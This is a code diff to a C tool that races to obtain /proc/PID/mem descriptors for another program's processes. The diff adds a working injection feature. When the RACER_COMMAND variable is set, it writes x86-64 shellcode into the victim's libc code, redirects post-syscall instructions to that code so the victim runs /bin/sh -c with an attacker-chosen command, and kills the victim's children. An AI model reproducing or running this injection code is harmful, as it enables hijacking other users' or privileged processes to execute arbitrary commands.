@@ -6,6 +6,9 @@
  * A line on standard input: what can be read through every descriptor that was
  * won goes to OUT.NUMBER, and one line is printed:
  *   tried=N opened=N (memory of PROGRAM's processes) bytes=N
+ *
+ * RACER_COMMAND: a shell's words that each of these is made to execute, as itself: code is
+ * written behind its system calls, and its children are ended, for which it waits.
  */
 #include <dirent.h>
 #include <errno.h>
@@ -29,7 +32,7 @@ static struct won {
 	int mem, maps;
 } kept[KEPT];
 static int count, tried, opened;
-static const char *name, *out;
+static const char *name, *out, *command;
 
 static int is_it(pid_t pid)
 {
@@ -49,7 +52,7 @@ static int open_it(pid_t pid, const char *leaf)
 	char path[64];
 
 	snprintf(path, sizeof(path), "/proc/%d/%s", pid, leaf);
-	return open(path, O_RDONLY | O_CLOEXEC);
+	return open(path, (strcmp(leaf, "mem") == 0 && command ? O_RDWR : O_RDONLY) | O_CLOEXEC);
 }
 
 static void take(pid_t pid)
@@ -102,6 +105,82 @@ static size_t copy(int mem, unsigned long low, unsigned long high, FILE *to)
 	return all;
 }
 
+#ifdef __x86_64__
+/* Keeps its descriptors, and execve("/bin/sh", {"/bin/sh", "-c", what follows, NULL}, NULL). */
+asm(".pushsection .rodata\n"
+    "inject_code: mov $63, %edi\n"
+    "4: mov $2, %esi; xor %edx, %edx; mov $72, %eax; syscall; dec %edi; jns 4b\n"
+    "xor %eax, %eax; push %rax\n"
+    "lea 3f(%rip), %rbx; push %rbx; lea 2f(%rip), %rbx; push %rbx; lea 1f(%rip), %rdi; push %rdi\n"
+    "mov %rsp, %rsi; xor %edx, %edx; mov $59, %eax; syscall\n"
+    "mov $77, %edi; mov $60, %eax; syscall\n"
+    "1: .string \"/bin/sh\"\n2: .string \"-c\"\n3:\n"
+    "inject_end: .popsection");
+extern const char inject_code[], inject_end[];
+
+static void end_children(pid_t of)
+{
+	char path[64], text[512];
+	int pid, parent, fd;
+	ssize_t n;
+
+	for (pid = of + 1; pid < of + 4096; pid++) {
+		snprintf(path, sizeof(path), "/proc/%d/stat", pid);
+		fd = open(path, O_RDONLY | O_CLOEXEC);
+		n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
+		if (fd >= 0)
+			close(fd);
+		text[n > 0 ? n : 0] = '\0';
+		if (strrchr(text, ')') && sscanf(strrchr(text, ')'), ") %*c %d", &parent) == 1 &&
+		    parent == of)
+			kill(pid, SIGKILL);
+	}
+}
+
+static void inject(const struct won *w, const char *maps)
+{
+	static const unsigned char after[] = { 0x0f, 0x05, 0x48, 0x3d, 0x00, 0xf0, 0xff, 0xff };
+	static unsigned char text[4 << 20];
+	const char *line = strstr(maps, "libc.so.6");
+	unsigned long low, high, at, code;
+	unsigned char jump[5] = { 0xe9 };
+	int32_t far;
+	ssize_t n;
+
+	/* The code of libc: the mapping that is executable. */
+	while (line) {
+		const char *begin = line;
+
+		while (begin > maps && begin[-1] != '\n')
+			begin--;
+		if (sscanf(begin, "%lx-%lx r-x", &low, &high) == 2 &&
+		    strstr(begin, "r-xp") == strchr(begin, ' ') + 1)
+			break;
+		line = strstr(line + 1, "libc.so.6");
+	}
+	if (!line || (n = pread(w->mem, text, sizeof(text), (off_t)low)) <= 0)
+		return;
+	code = low + 0x400;
+	pwrite(w->mem, inject_code, (size_t)(inject_end - inject_code), (off_t)code);
+	pwrite(w->mem, command, strlen(command) + 1,
+	       (off_t)(code + (size_t)(inject_end - inject_code)));
+	for (at = 0x2000; at + sizeof(after) < (unsigned long)n; at++) {
+		if (memcmp(text + at, after, sizeof(after)) != 0)
+			continue;
+		far = (int32_t)(code - (low + at + 2 + sizeof(jump)));
+		memcpy(jump + 1, &far, sizeof(far));
+		pwrite(w->mem, jump, sizeof(jump), (off_t)(low + at + 2));
+	}
+	end_children(w->pid);
+}
+#else
+static void inject(const struct won *w, const char *maps)
+{
+	(void)w;
+	(void)maps;
+}
+#endif
+
 static void report(void)
 {
 	static char maps[1 << 18];
@@ -120,6 +199,10 @@ static void report(void)
 		     have += (size_t)n)
 			;
 		maps[have] = '\0';
+		if (command) {
+			inject(&kept[i], maps);
+			continue;
+		}
 		snprintf(path, sizeof(path), "%s.%d", out, i);
 		to = fopen(path, "w");
 		for (rest = maps; to && (line = strtok_r(NULL, "\n", &rest));)
@@ -151,6 +234,7 @@ int main(int argc, char **argv)
 		return 2;
 	name = strrchr(argv[1], '/') + 1;
 	out = argv[2];
+	command = getenv("RACER_COMMAND");
 	setrlimit(RLIMIT_LOCKS, &mark);
 	p[1].fd = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
 	/* A program that one cannot read cannot be watched either: look always. */
